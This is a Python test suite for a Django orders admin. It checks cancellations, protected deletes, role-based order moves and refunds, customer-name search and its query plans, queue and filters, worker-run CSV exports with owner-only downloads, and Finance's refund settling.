"""Orders admin: cancel through the service, open orders never deleted, the order page's moves,
notes and refunds by role, the queue, search, filters, CSV exports through a real Celery worker."""

from __future__ import annotations

import csv
import io
import re
import stat
import time
from datetime import timedelta
from typing import Any

import pytest
from celery.contrib.testing.worker import start_worker
from django.contrib.auth.models import Permission
from django.contrib.messages import get_messages
from django.contrib.messages.constants import ERROR
from django.db import connection
from django.utils import timezone

from catalog.models import Product, Stock, StockMovement
from okada.celery import app
from okada.core.actors import Actor
from okada.core.errors import InUse, NotAllowed
from okada.core.querysets import count_up_to
from okada.core.roles import FINANCE, OPERATIONS, STOCK, SUPPORT
from orders import admin as orders_admin
from orders import exports
from orders.models import CustomerAlias, Order, OrderEvent, OrderExport, OrderStatus, Payment, PaymentMethod
from orders.services import (
    customer_soft_delete,
    customer_update,
    order_cancel,
    order_soft_delete,
    payment_apply_callback,
    payment_record,
)
from tests.admin_client import csrf_client, csrf_post
from tests.catalog.factories import ProductFactory, UserFactory, VendorFactory, role_user, staff_actor
from tests.hard_delete import forge_hard_delete
from tests.orders.factories import (
    CustomerFactory,
    OrderFactory,
    mobile_money_order,
    order_in_status,
    payment_needing_refund,
)
from tests.plans import plan_nodes
from tests.statistics import bulk_analyzed

pytestmark = pytest.mark.django_db


def login(client, *roles: str, **fields):
    user = role_user(*roles, **fields)
    client.force_login(user)
    return user


def test_cancel_action_releases_stock_and_records_the_staff_user(client, admin_user):
    vendor = VendorFactory()
    product = ProductFactory(vendor=vendor, initial_stock=5)
    order = OrderFactory(vendor=vendor, items=[(product, 2)])
    client.force_login(admin_user)
    response = client.post(
        "/admin/orders/order/", {"action": "cancel_orders", "_selected_action": [str(order.pk)]}
    )
    assert response.status_code == 302
    order.refresh_from_db()
    assert order.status == OrderStatus.CANCELLED
    assert Stock.objects.get(product=product).reserved == 0
    release = StockMovement.objects.get(product=product, kind=StockMovement.Kind.RELEASE)
    assert (release.delta, release.reference) == (-2, order.number)
    event = order.events.get(kind=OrderEvent.Kind.STATUS)
    assert (event.from_status, event.to_status) == (OrderStatus.PENDING, OrderStatus.CANCELLED)
    assert event.actor_user == admin_user
    assert event.data == {"note": "cancelled in admin"}
    assert order.history.latest().history_user == admin_user


def test_select_all_sent_to_the_order_list_cancels_nothing(client):
    # The order list offers no "select all" (BigTableMixin), but Django ran an action posted with
    # `select_across=1` on every row of the filtered list: one ticked order, the vendor's whole
    # open queue cancelled (their stock released), from a script or a page of another list.
    vendor = VendorFactory()
    product = ProductFactory(vendor=vendor, initial_stock=10)
    ticked, other = (OrderFactory(vendor=vendor, items=[(product, 1)]) for _ in range(2))
    client = csrf_client(role_user(OPERATIONS))
    response = csrf_post(
        client,
        f"/admin/orders/order/?vendor__id__exact={vendor.pk}",
        {"action": "cancel_orders", "_selected_action": [str(ticked.pk)], "select_across": "1", "index": "0"},
    )
    assert response.status_code == 302
    errors = [m.message for m in get_messages(response.wsgi_request) if m.level == ERROR]
    assert errors == [
        "Cette liste est trop longue pour agir sur toutes ses lignes à la fois\u00a0: "
        "rien n\u2019a été fait. Cochez les lignes sur lesquelles agir, page par page "
        "(filtrez d\u2019abord la liste)."
    ]
    assert set(Order.objects.filter(vendor=vendor).values_list("status", flat=True)) == {OrderStatus.PENDING}
    assert Stock.objects.get(product=product).reserved == 2
    # The rows ticked on the page are still acted on.
    csrf_post(
        client,
        f"/admin/orders/order/?vendor__id__exact={vendor.pk}",
        {"action": "cancel_orders", "_selected_action": [str(ticked.pk)], "select_across": "0", "index": "0"},
    )
    assert Order.objects.get(pk=ticked.pk).status == OrderStatus.CANCELLED
    assert Order.objects.get(pk=other.pk).status == OrderStatus.PENDING


def test_an_open_order_cannot_be_deleted_in_admin(client, admin_user):
    order = OrderFactory()
    client.force_login(admin_user)
    assert client.get(f"/admin/orders/order/{order.pk}/delete/").status_code == 403
    client.post(
        "/admin/orders/order/",
        {"action": "delete_selected", "_selected_action": [str(order.pk)], "post": "yes"},
    )
    assert Order.objects.filter(pk=order.pk).exists()


def test_an_open_order_is_not_deleted_for_good_either_its_stock_stays_reserved_otherwise(client, admin_user):
    # A hard delete takes the order's items with it but not its reservation: the stock would stay
    # reserved for no open order (the nightly audit's reserved = open items), never released.
    # The page says so and offers no confirmation; one posted anyway is refused by the service.
    product = ProductFactory(initial_stock=5)
    order = OrderFactory(vendor=product.vendor, items=[(product, 2)])
    finished = order_cancel(order=OrderFactory(vendor=product.vendor), actor=staff_actor())
    client.force_login(admin_user)
    post = {"action": "hard_delete_selected", "_selected_action": [str(order.pk), str(finished.pk)]}

    page = client.post("/admin/orders/order/", post)
    html = page.content.decode()
    assert page.status_code == 200
    assert "Suppression définitive impossible" in html
    assert "Une commande en cours ne peut pas être supprimée" in html, html
    assert order.number in html and finished.number not in html  # only the open one stops it
    assert 'name="confirm"' not in html

    response = forge_hard_delete(client, "/admin/orders/order/", Order, [order.pk])

    assert response.status_code == 302
    assert [m.message for m in get_messages(response.wsgi_request) if m.level == ERROR]
    assert Order.objects.filter(pk=order.pk).exists() and order.items.count() == 1
    assert Stock.objects.get(product=product).reserved == 2


@pytest.mark.django_db(transaction=True)  # the foreign keys are checked at a real commit
def test_an_ordered_product_is_not_deleted_for_good_the_page_says_why_and_the_service_refuses_it(
    client, admin_user
):
    # Order items keep their product by a database foreign key only (DO_NOTHING, checked at
    # commit). The page offered "Oui, supprimer définitivement" and named the stock row only;
    # the refusal came after the confirmation. Now the page names the order items and offers no
    # confirmation; one posted anyway is refused by the service (it was a 500 once: the refusal
    # came out of the confirmation's commit as an IntegrityError).
    product = ProductFactory(initial_stock=5, name="Riz parfumé")
    order = order_cancel(order=OrderFactory(vendor=product.vendor, items=[(product, 2)]), actor=staff_actor())
    client.force_login(admin_user)
    post = {"action": "hard_delete_selected", "_selected_action": [str(product.pk)]}

    html = client.post("/admin/catalog/product/", post).content.decode()
    assert "Suppression définitive impossible" in html
    assert re.search(r"Lignes de commande\s: 1\b", html) and "2 x Riz parfumé" in html, html
    assert 'name="confirm"' not in html and "Oui, supprimer définitivement" not in html

    response = forge_hard_delete(client, "/admin/catalog/product/", Product, [product.pk])

    assert response.status_code == 302
    refused = [m.message for m in get_messages(response.wsgi_request) if m.level == ERROR]
    assert len(refused) == 1 and "impossible de le supprimer définitivement" in refused[0], refused
    assert order.items.get().product_id == product.pk
    assert Stock.objects.filter(product=product).exists()


def test_a_cancelled_order_can_be_soft_deleted_and_cancel_ignores_deleted_rows(client, admin_user):
    order = order_cancel(order=OrderFactory(), actor=staff_actor())
    client.force_login(admin_user)
    response = client.post(f"/admin/orders/order/{order.pk}/delete/", {"post": "yes"})
    assert response.status_code == 302
    assert Order.deleted_objects.filter(pk=order.pk).exists()
    response = client.post(
        "/admin/orders/order/?deleted=deleted",
        {"action": "cancel_orders", "_selected_action": [str(order.pk)]},
    )
    assert response.status_code == 302
    # Not tried at all (a second cancel would be refused and reported as an error), nothing changed.
    assert [m.message for m in get_messages(response.wsgi_request) if m.level == ERROR] == []
    assert Order.deleted_objects.get(pk=order.pk).status == OrderStatus.CANCELLED
    assert order.events.filter(to_status=OrderStatus.CANCELLED).count() == 1
    assert StockMovement.objects.filter(reference=order.number, kind=StockMovement.Kind.RELEASE).count() == 1


def test_an_order_with_a_payment_is_kept_the_delete_says_why_instead_of_a_500(client):
    # A payment is a record of money asked for or received: it keeps its order (PROTECT), so
    # the delete is refused with a clear message, in the admin page and in the bulk action.
    order = mobile_money_order("551200")
    order = order_cancel(order=order, actor=staff_actor())
    login(client, OPERATIONS)

    response = client.post(f"/admin/orders/order/{order.pk}/delete/", {"post": "yes"})
    assert response.status_code == 302
    errors = [m.message for m in get_messages(response.wsgi_request) if m.level == ERROR]
    assert errors == [
        f"{order.number} a des paiements, conservés pour toujours\u00a0: suppression impossible."
    ]
    response = client.post(
        "/admin/orders/order/",
        {"action": "delete_selected", "_selected_action": [str(order.pk)], "post": "yes"},
    )
    assert response.status_code == 302
    assert [m.message for m in get_messages(response.wsgi_request) if m.level == ERROR]
    assert Order.objects.filter(pk=order.pk).exists()
    with pytest.raises(InUse):
        order_soft_delete(order=order, actor=staff_actor())
    assert Order.objects.filter(pk=order.pk).exists() and order.payments.count() == 1


def test_a_cancelled_order_can_be_soft_deleted_and_restored(client):
    order = order_cancel(order=OrderFactory(), actor=staff_actor())
    login(client, OPERATIONS)
    assert client.post(f"/admin/orders/order/{order.pk}/delete/", {"post": "yes"}).status_code == 302
    assert Order.deleted_objects.filter(pk=order.pk).exists()
    client.post(
        "/admin/orders/order/?deleted=deleted",
        {"action": "restore_selected", "_selected_action": [str(order.pk)]},
    )
    assert Order.objects.filter(pk=order.pk).exists()


def test_the_order_page_offers_the_moves_this_user_may_make(client):
    order = OrderFactory()
    login(client, OPERATIONS)
    page = client.get(f"/admin/orders/order/{order.pk}/change/").content.decode()
    assert 'data-to="accepted"' in page and 'id="cancel-order"' in page and 'id="add-note"' in page
    login(client, SUPPORT)
    page = client.get(f"/admin/orders/order/{order.pk}/change/").content.decode()
    assert 'data-to="accepted"' not in page and 'id="cancel-order"' not in page
    assert 'id="add-note"' in page


def test_the_order_page_shows_the_customer_name_given_for_the_order_read_only(client):
    # The customer as the order shows it, linked to the record, and the record's own name apart.
    order = OrderFactory(customer=CustomerFactory(name="Awa Mbarga", phone="+237677000901"))
    Order.objects.filter(pk=order.pk).update(customer_name="X Y")  # as a phone order gave it
    login(client, OPERATIONS)
    page = client.get(f"/admin/orders/order/{order.pk}/change/").content.decode()
    record = f"/admin/orders/customer/{order.customer_id}/change/"
    assert re.search(rf'<a href="{record}">\s*X Y \(\+237677000901\)\s*</a>', page)
    assert "Nom sur la fiche client" in page and re.search(r">\s*Awa Mbarga\s*<", page)
    assert "Awa Mbarga (+237677000901)" not in page  # the record is no longer named as the order's
    assert 'name="customer_name"' not in page  # shown, never sent


def renamed_after_its_order(name: str, new_name: str, **fields: Any) -> Order:
    """An order placed under the customer record's `name`, then the record renamed (its alias
    written by customer_update): the order shows `name`, the record says `new_name`."""
    order = OrderFactory(customer=CustomerFactory(name=name, **fields))
    customer_update(customer=order.customer, data={"name": new_name}, actor=staff_actor())
    return order


def customer_column(client, query: str) -> dict[str, str]:
    """The list's customer column by order number."""
    response = client.get(f"/admin/orders/order/?{query}")
    assert response.status_code == 200
    html = response.content.decode()
    rows = re.findall(r"<tr[^>]*>(.*?)</tr>", html, re.S)
    cells = {}
    for row in rows:
        found = re.search(r'<td class="field-customer_shown[^"]*"[^>]*>(.*?)</td>', row, re.S)
        number = re.search(r"OK-\d+", row)
        if found and number:
            cells[number[0]] = " ".join(found[1].split())
    return cells


def test_the_list_shows_the_name_each_order_shows_which_its_name_search_finds(client):
    # Staff search "Awa Mbarga" and get an order whose customer column said the record's name
    # ("Mbarga Awa Epse Tchoua"): the search looked wrong. The column shows the order's name.
    renamed = renamed_after_its_order("Awa Mbarga", "Mbarga Awa Epse Tchoua", phone="+237677000902")
    legacy = OrderFactory(customer=CustomerFactory(name="Paul Eto", phone="+237677000903"))
    Order.objects.filter(pk=legacy.pk).update(customer_name="")  # placed before orders kept one
    login(client, OPERATIONS)

    assert customer_column(client, "q=Awa+Mbarga") == {renamed.number: "Awa Mbarga (+237677000902)"}
    assert customer_column(client, "") == {
        renamed.number: "Awa Mbarga (+237677000902)",
        legacy.number: "Paul Eto (+237677000903)",  # no name of its own: the record's
    }
    assert customer_column(client, "q=Tchoua") == {}  # the record's name is not what it shows
    # The customers list shows the record, under the record's name.
    customers = client.get("/admin/orders/customer/", {"q": "+237677000902"}).context["cl"].result_list
    assert [c.name for c in customers] == ["Mbarga Awa Epse Tchoua"]


def test_the_lists_customer_column_reads_no_row_more_for_more_orders(client):
    from tests.core.test_admin_queries import count

    def orders(n: int) -> None:
        for i in range(n):
            order = OrderFactory()
            if i % 2:  # every other one placed before orders kept a name: the record's is read
                Order.objects.filter(pk=order.pk).update(customer_name="")

    orders(2)
    login(client, OPERATIONS)
    urls = ["/admin/orders/order/", "/admin/orders/order/queue/"]
    few = [count(client, url) for url in urls]
    orders(8)
    assert [count(client, url) for url in urls] == few


def test_the_queue_and_a_vendors_open_orders_show_the_name_each_order_shows(client, admin_user):
    renamed = renamed_after_its_order("Awa Mbarga", "Mbarga Awa Epse Tchoua")
    client.force_login(admin_user)
    for url in ("/admin/orders/order/queue/", f"/admin/catalog/vendor/{renamed.vendor_id}/change/"):
        page = client.get(url).content.decode()
        assert renamed.number in page and "Awa Mbarga" in page, url
        assert "Tchoua" not in page, url


def test_operations_move_an_order_along_and_the_timeline_shows_it(client):
    order = OrderFactory()
    user = login(client, OPERATIONS)
    for to in ("accepted", "preparing"):
        response = client.post(f"/admin/orders/order/{order.pk}/transition/", {"to": to})
        assert response.status_code == 302
    order.refresh_from_db()
    assert order.status == OrderStatus.PREPARING
    events = OrderEvent.objects.filter(order_id=order.pk, kind="status").order_by("created_at")
    assert [e.to_status for e in events] == ["accepted", "preparing"]
    assert {e.actor_user_id for e in events} == {user.pk}
    page = client.get(f"/admin/orders/order/{order.pk}/change/").content.decode()
    assert "En préparation" in page or "en préparation" in page


def test_a_support_user_cannot_cancel_an_order_even_by_forging_the_post(client):
    order = OrderFactory()
    login(client, SUPPORT)
    response = client.post(f"/admin/orders/order/{order.pk}/transition/", {"to": "cancelled", "note": "x"})
    assert response.status_code == 403
    assert Order.objects.get(pk=order.pk).status == OrderStatus.PENDING


def test_cancelling_needs_a_reason(client):
    order = OrderFactory()
    login(client, OPERATIONS)
    client.post(f"/admin/orders/order/{order.pk}/transition/", {"to": "cancelled"})
    assert Order.objects.get(pk=order.pk).status == OrderStatus.PENDING
    client.post(
        f"/admin/orders/order/{order.pk}/transition/", {"to": "cancelled", "note": "client injoignable"}
    )
    order.refresh_from_db()
    assert order.status == OrderStatus.CANCELLED
    assert OrderEvent.objects.get(order_id=order.pk, to_status="cancelled").data == {
        "note": "client injoignable"
    }


def test_a_refused_move_is_a_message_not_a_500(client):
    order = OrderFactory()
    login(client, OPERATIONS)
    response = client.post(f"/admin/orders/order/{order.pk}/transition/", {"to": "delivered"}, follow=True)
    assert response.status_code == 200
    assert "ne peut pas passer" in response.content.decode()


def test_only_finance_refunds_a_delivered_order(client):
    order = order_in_status(OrderStatus.DELIVERED)
    login(client, OPERATIONS)
    assert client.post(f"/admin/orders/order/{order.pk}/transition/", {"to": "refunded"}).status_code == 403
    login(client, FINANCE)
    page = client.get(f"/admin/orders/order/{order.pk}/change/").content.decode()
    assert 'data-to="refunded"' in page
    assert client.post(f"/admin/orders/order/{order.pk}/transition/", {"to": "refunded"}).status_code == 302
    assert Order.objects.get(pk=order.pk).status == OrderStatus.REFUNDED


def test_support_adds_a_note_and_a_stock_user_may_not(client):
    order = OrderFactory()
    user = login(client, SUPPORT)
    assert (
        client.post(f"/admin/orders/order/{order.pk}/note/", {"note": "Rappeler à 18 h"}).status_code == 302
    )
    note = OrderEvent.objects.get(order_id=order.pk, kind="note")
    assert (note.data, note.actor_user_id) == ({"note": "Rappeler à 18 h"}, user.pk)
    login(client, STOCK)
    assert client.post(f"/admin/orders/order/{order.pk}/note/", {"note": "x"}).status_code == 403
    assert OrderEvent.objects.filter(order_id=order.pk, kind="note").count() == 1


def test_search_finds_orders_by_number_phone_in_any_form_and_customer_name(client):
    customer = CustomerFactory(name="Ngono Amougou", phone="+237677001122")
    mine, other = OrderFactory(customer=customer), OrderFactory()
    login(client, SUPPORT)

    def found(term: str) -> set[str]:
        response = client.get("/admin/orders/order/", {"q": term})
        return {o.number for o in response.context["cl"].result_list}

    assert found("6 77 00 11 22") == {mine.number}
    assert found("+237677001122") == {mine.number}
    assert found("amougou") == {mine.number}
    assert found(mine.number) == {mine.number}
    assert found(str(int(other.number[3:]))) == {other.number}

    # The customer leaves (their order first) and the number passes to a new customer.
    order_soft_delete(order=order_cancel(order=mine, actor=staff_actor()), actor=staff_actor())
    customer_soft_delete(customer=customer, actor=staff_actor())
    theirs = OrderFactory(customer=CustomerFactory(name="Nouveau", phone="+237677001122"))
    assert found("677001122") == {theirs.number}
    all_rows = client.get("/admin/orders/order/", {"q": "677001122", "deleted": "all"})
    assert {o.number for o in all_rows.context["cl"].result_list} == {mine.number, theirs.number}
    customers = client.get("/admin/orders/customer/", {"q": "6 77 00 11 22", "deleted": "all"})
    assert {c.name for c in customers.context["cl"].result_list} == {customer.name, "Nouveau"}
    live = client.get("/admin/orders/customer/", {"q": "+237677001122"})
    assert [c.name for c in live.context["cl"].result_list] == ["Nouveau"]


def listed_numbers(client, term: str) -> set[str]:
    response = client.get("/admin/orders/order/", {"q": term})
    assert response.status_code == 200
    return {o.number for o in response.context["cl"].result_list}


def test_the_name_search_reads_the_name_each_order_shows_accents_and_case_ignored(client):
    # A phone order gives its own name (Order.customer_name); an older order shows its customer
    # record's. Staff find each by the name it shows, as the API's `?q=` does, whole words or
    # the beginning of the last one.
    given = OrderFactory(customer=CustomerFactory(name="Paul Mbarga"))
    Order.objects.filter(pk=given.pk).update(customer_name="Aïcha Kamga")
    # Another name than the record's: its alias, as order_place_for_phone writes it.
    CustomerAlias.objects.create(vendor=given.vendor, customer=given.customer, name="Aïcha Kamga")
    legacy = OrderFactory(customer=CustomerFactory(name="Aïcha Ndongo"))
    other = OrderFactory(customer=CustomerFactory(name="Jean Owona"))
    login(client, OPERATIONS)

    assert listed_numbers(client, "Aicha Kamga") == {given.number}
    assert listed_numbers(client, "KAMGA") == {given.number}
    assert listed_numbers(client, "aïcha") == {given.number, legacy.number}
    assert listed_numbers(client, "Aicha") == {given.number, legacy.number}
    assert listed_numbers(client, "Ndongo") == {legacy.number}
    # The beginning of the last word (two letters or more); not the middle of a word.
    assert listed_numbers(client, "Kam") == {given.number}
    assert listed_numbers(client, "aicha nd") == {legacy.number}
    assert listed_numbers(client, "ongo") == set()
    # Only the shown name: the record's name of an order that gave another is not searched.
    assert listed_numbers(client, "Mbarga") == set()
    # Letters that are tsquery syntax are words' separators, never an error.
    assert listed_numbers(client, "owona:* | !(") == {other.number}
    assert listed_numbers(client, "x") == set()
    assert listed_numbers(client, "!!") == set()


@pytest.mark.django_db(transaction=True)  # bulk_analyzed: committed, then truncated
@pytest.mark.parametrize("probe", [None, 2], ids=["listed-by-key", "walked"])
def test_the_name_search_finds_every_order_of_a_common_name_past_500_customers(client, monkeypatch, probe):
    # 600 customers named Jean, one order each: the search used to keep the first 500 customers
    # it read, and the orders of the others (often the newest) were missing, with no sign. Both
    # ways the list is read (few matches by key, more by a walk of the newest) find them all.
    if probe is not None:  # else NAME_PROBE's 5,000: 600 matches are listed by key
        monkeypatch.setattr(orders_admin, "NAME_PROBE", probe)
    first = OrderFactory(customer=CustomerFactory(name="Paul Eto"))
    jeans_orders(first, 600)
    login(client, OPERATIONS)
    response = client.get("/admin/orders/order/", {"q": "jean"})
    assert response.context["cl"].queryset.count() == 600
    # The newest first, the list's order, on its first page.
    newest = Order.objects.filter(customer__name__startswith="Jean ").order_by("-placed_at", "-id")
    assert [o.number for o in response.context["cl"].result_list] == [o.number for o in newest[:25]]


def jeans_orders(first: Order, count: int) -> None:
    """`count` customers "Jean <n>" with an order each (placed before orders kept a name: ''),
    a minute apart, of `first`'s vendor and zone; committed and analyzed."""
    bulk_analyzed(
        "orders_customer",
        """
        INSERT INTO orders_customer (id, created_at, updated_at, deleted_by_cascade, name, phone,
                                     default_address)
        SELECT gen_random_uuid(), now(), now(), false, 'Jean ' || g, '+237' || (650000000 + g)::text, ''
          FROM generate_series(1, %s) g
        """,
        [count],
    )
    bulk_analyzed(
        "orders_order",
        """
        INSERT INTO orders_order (id, created_at, updated_at, deleted_by_cascade, number, status,
                                  channel, payment_method, payment_status, subtotal_xaf,
                                  delivery_fee_xaf, total_xaf, address, placed_at, note,
                                  customer_name, customer_id, vendor_id, zone_id)
        SELECT gen_random_uuid(), now(), now(), false,
               okada_order_number(nextval('orders_order_number_seq')), 'delivered', 'storefront',
               'cash', 'paid', 1000, 0, 1000, '',
               now() - row_number() OVER (ORDER BY c.id) * interval '1 minute', '', '', c.id, %s, %s
          FROM orders_customer c WHERE c.name LIKE 'Jean %%'
        """,
        [first.vendor_id, first.zone_id],
    )


@pytest.mark.django_db(transaction=True)  # bulk_analyzed: committed, then truncated
def test_the_name_search_page_reads_the_name_indexes_never_the_whole_orders_table(client, monkeypatch):
    # Statistics of a big table (tests.statistics), planned as at scale: a name's matches are
    # first looked for through the name indexes (orders migrations 0035, 0036); few, the page reads
    # them by key; more, it walks the newest first (orders_order_placed) and stops at a page.
    # Never a scan of the orders, nor a sort of every match.
    first = OrderFactory(customer=CustomerFactory(name="Paul Eto"))
    jeans_orders(first, 3000)
    with connection.cursor() as cursor:
        # A fifth of them gave their own name with the order.
        cursor.execute(
            "UPDATE orders_order SET customer_name = 'Jean Kamga' "
            "WHERE placed_at < now() - interval '40 hours'"
        )
        # Their aliases, as order_place_for_phone writes them (another name than the record's).
        cursor.execute(
            "INSERT INTO orders_customer_alias (vendor_id, customer_id, name) "
            "SELECT DISTINCT vendor_id, customer_id, customer_name FROM orders_order "
            "WHERE customer_name <> ''"
        )
        cursor.execute("ANALYZE orders_customer_alias")
        cursor.execute("ANALYZE orders_order")
    probed = []

    def probe(rows, cap):
        probed.append(rows)
        return count_up_to(rows, cap)

    monkeypatch.setattr(orders_admin, "count_up_to", probe)
    login(client, OPERATIONS)

    def page_plan(term: str) -> list[dict[str, Any]]:
        cl = client.get("/admin/orders/order/", {"q": term}).context["cl"]
        assert len(cl.result_list) == 25
        sql, params = cl.queryset[: cl.list_per_page + 1].query.sql_with_params()
        return plan_nodes(sql, params, sorts=True)

    def seq_scans(nodes: list[dict[str, Any]]) -> list[str]:
        return [n["Relation Name"] for n in nodes if n["Node Type"] == "Seq Scan"]

    for term in ("jean", "jean kam"):
        probed.clear()
        page = page_plan(term)
        assert seq_scans(page) == [], (term, page)
        sql, params = probed[0].order_by().values("pk")[:10].query.sql_with_params()
        probe_plan = plan_nodes(sql, params)
        indexes = {n.get("Index Name") for n in probe_plan}
        names = {"orders_customer_name_search", "orders_alias_name_search", "orders_order_customer"}
        assert names <= indexes, (term, indexes)
        assert seq_scans(probe_plan) == [], (term, probe_plan)

    monkeypatch.setattr(orders_admin, "NAME_PROBE", 2)
    page = page_plan("jean")
    walked = next(n for n in page if n["Node Type"] == "Index Scan")  # the first, the orders'
    assert (walked["Index Name"], walked["Scan Direction"]) == ("orders_order_placed", "Backward"), page
    assert not [n for n in page if n["Node Type"] == "Sort"], page  # an Incremental Sort of ties only
    assert seq_scans(page) == [], page


def test_the_queue_lists_open_orders_oldest_first_with_stuck_ones_marked(client, settings):
    settings.OKADA_STUCK_MINUTES = {**settings.OKADA_STUCK_MINUTES, "pending": 0}
    first, second = OrderFactory(), OrderFactory()
    order_cancel(order=OrderFactory(), actor=staff_actor())
    login(client, SUPPORT)
    response = client.get("/admin/orders/order/queue/")
    assert response.status_code == 200
    assert [o.pk for o in response.context["orders"]] == [first.pk, second.pk]
    assert all(o.is_stuck for o in response.context["orders"])
    assert "okada-stuck" in response.content.decode()


def test_the_queue_shows_the_oldest_open_orders_up_to_its_limit_of_one_status_or_all(client, monkeypatch):
    monkeypatch.setattr(orders_admin, "QUEUE_LIMIT", 2)
    pending = [OrderFactory() for _ in range(3)]
    ready = order_in_status(OrderStatus.READY)
    login(client, OPERATIONS)

    def shown(**params) -> list:
        response = client.get("/admin/orders/order/queue/", params)
        assert response.status_code == 200
        return [o.pk for o in response.context["orders"]]

    placing_order = sorted([*pending, ready], key=lambda o: (o.placed_at, o.pk))
    assert shown() == [o.pk for o in placing_order[:2]]
    assert shown(status="ready") == [ready.pk]
    assert shown(status="pending") == [o.pk for o in sorted(pending, key=lambda o: (o.placed_at, o.pk))[:2]]
    assert shown(status="delivered") == shown()  # not an open status: the whole queue


def test_filters_by_stuck_city_and_placing_day(client, settings):
    settings.OKADA_STUCK_MINUTES = {**settings.OKADA_STUCK_MINUTES, "pending": 0}
    order = OrderFactory()
    login(client, OPERATIONS)
    day = order.placed_at.astimezone().date().isoformat()

    def numbers(**params) -> set[str]:
        return {o.number for o in client.get("/admin/orders/order/", params).context["cl"].result_list}

    assert numbers(stuck="yes") == {order.number}
    assert numbers(city="douala") == {order.number}
    assert numbers(city="yaounde") == set()
    assert numbers(placed_from=day, placed_to=day) == {order.number}
    assert numbers(placed_from="2001-01-01", placed_to="2001-01-02") == set()


@pytest.mark.django_db(transaction=True)
def test_csv_export_runs_on_a_worker_and_only_its_owner_downloads_it(client, tmp_path, settings):
    settings.OKADA_PRIVATE_DIR = tmp_path
    vendor = VendorFactory(name="Épicerie Akwa")
    wanted = OrderFactory(vendor=vendor)
    OrderFactory()  # another vendor's: filtered out
    owner = login(client, FINANCE)
    with start_worker(app, pool="solo", perform_ping_check=False, shutdown_timeout=30):
        response = client.post("/admin/orders/order/export/", {"query": f"vendor__id__exact={vendor.pk}"})
        assert response.status_code == 302
        export = OrderExport.objects.get(requested_by=owner)
        deadline = time.monotonic() + 60
        while export.status not in ("done", "failed") and time.monotonic() < deadline:
            time.sleep(0.2)
            export.refresh_from_db()
    assert export.status == "done", export.error
    assert export.rows == 1
    # Customers' names and phones: readable by the web and worker user only.
    assert stat.S_IMODE(exports.export_dir().stat().st_mode) == 0o700
    assert stat.S_IMODE(exports.export_path(export).stat().st_mode) == 0o600

    download = client.get(f"/admin/orders/orderexport/{export.pk}/download/")
    assert download.status_code == 200
    rows = list(
        csv.reader(io.StringIO(b"".join(download.streaming_content).decode("utf-8-sig")), delimiter=";")
    )
    assert rows[0][0] == "numéro" and [r[0] for r in rows[1:]] == [wanted.number]
    assert rows[1][3] == "Épicerie Akwa"

    login(client, FINANCE)  # another Finance user: not theirs
    assert client.get(f"/admin/orders/orderexport/{export.pk}/download/").status_code == 404
    login(client, SUPPORT)  # no export permission at all
    assert client.get(f"/admin/orders/orderexport/{export.pk}/download/").status_code == 403
    assert client.post("/admin/orders/order/export/", {"query": ""}).status_code == 403


# --- Payments: Finance's follow-up of refunds owed -------------------------------------------------

PAYMENTS = "/admin/orders/payment/"


def settle(client, payment, note: str = "MoMo 2231"):
    return client.post(
        PAYMENTS,
        {"action": "settle_refunds", "_selected_action": [str(payment.pk)], "confirm": "yes", "note": note},
    )


def test_finance_lists_refunds_owed_and_records_one_settled_with_a_note(client):
    owed = payment_needing_refund(key="cash-owed")
    other = payment_needing_refund(key="cash-other")
    user = login(client, FINANCE)

    listed = client.get(PAYMENTS + "?needs_refund__exact=1").context["cl"].result_list
    assert {p.pk for p in listed} == {owed.pk, other.pk}
    found = client.get(PAYMENTS, {"q": owed.order.number.removeprefix("OK-").lstrip("0")})
    assert [p.pk for p in found.context["cl"].result_list] == [owed.pk]
    page = client.post(PAYMENTS, {"action": "settle_refunds", "_selected_action": [str(owed.pk)]})
    assert page.status_code == 200 and owed.order.number in page.content.decode()  # asks for the note
    assert Payment.objects.get(pk=owed.pk).needs_refund

    assert settle(client, owed).status_code == 302

    payment = Payment.objects.get(pk=owed.pk)
    assert not payment.needs_refund and payment.refund_settled_by == user
    assert OrderEvent.objects.filter(order=owed.order_id, data__refund_settled=True).count() == 1
    listed = client.get(PAYMENTS + "?needs_refund__exact=1").context["cl"].result_list
    assert [p.pk for p in listed] == [other.pk]
    timeline = client.get(f"/admin/orders/order/{owed.order_id}/change/").content.decode()
    assert "Remboursement réglé" in timeline and "MoMo 2231" in timeline


def _timeline_after_callbacks(client, reference: str, *statuses: str) -> str:
    """The order page's timeline (as Finance) after callbacks of `statuses` for one payment: the
    first decides it, the later ones come too late."""
    order = mobile_money_order(reference)
    for n, status in enumerate(statuses):
        payment_apply_callback(
            provider=PaymentMethod.MTN_MOMO,
            provider_reference=reference,
            status=status,
            amount_xaf=order.total_xaf,
            payload={"transaction_id": f"T-{n}"},
        )
    login(client, FINANCE)
    return client.get(f"/admin/orders/order/{order.pk}/change/").content.decode()


def test_a_callback_that_was_not_applied_is_on_the_order_timeline(client):
    timeline = _timeline_after_callbacks(client, "MTN-LATE", "failed", "succeeded")
    # The callback says "succeeded"; the line under it says it changed nothing, and why.
    assert "FCFA · réussi" in timeline
    assert (
        "Notification non appliquée\u00a0: le paiement avait déjà le statut «\u00a0échoué\u00a0»." in timeline
    )


def test_a_failure_that_was_not_applied_shows_no_amount_on_the_timeline(client):
    # A failure carries no money: its line once read "0 FCFA", as if the provider had paid nothing.
    timeline = _timeline_after_callbacks(client, "MTN-FAIL-LATE", "succeeded", "failed")
    assert (
        "Notification non appliquée\u00a0: le paiement avait déjà le statut «\u00a0réussi\u00a0»." in timeline
    )
    assert "MTN Mobile Money · échoué" in timeline
    assert "· 0\xa0FCFA" not in timeline


def test_a_second_settle_in_the_admin_is_refused_and_says_so(client):
    payment = payment_needing_refund()
    login(client, FINANCE)
    settle(client, payment)
    response = settle(client, payment, note="encore")
    errors = [str(m) for m in get_messages(response.wsgi_request) if m.level == ERROR]
    assert len(errors) == 1 and "déjà été réglé" in errors[0]
    assert not OrderEvent.objects.filter(order=payment.order_id, data__note="encore").exists()


def test_a_settle_without_a_note_asks_again_and_changes_nothing(client):
    payment = payment_needing_refund()
    login(client, FINANCE)
    response = settle(client, payment, note="  ")
    assert response.status_code == 200 and "errornote" in response.content.decode()
    assert Payment.objects.get(pk=payment.pk).needs_refund


@pytest.mark.parametrize("role", [OPERATIONS, SUPPORT])
def test_only_finance_may_settle_refunds_even_by_posting(client, role):
    payment = payment_needing_refund()
    login(client, role)
    page = client.get(PAYMENTS)
    assert page.status_code == 200 and "settle_refunds" not in page.content.decode()
    settle(client, payment)
    assert Payment.objects.get(pk=payment.pk).needs_refund


def test_payments_filter_by_provider_status_and_local_day(client):
    payment = payment_needing_refund()
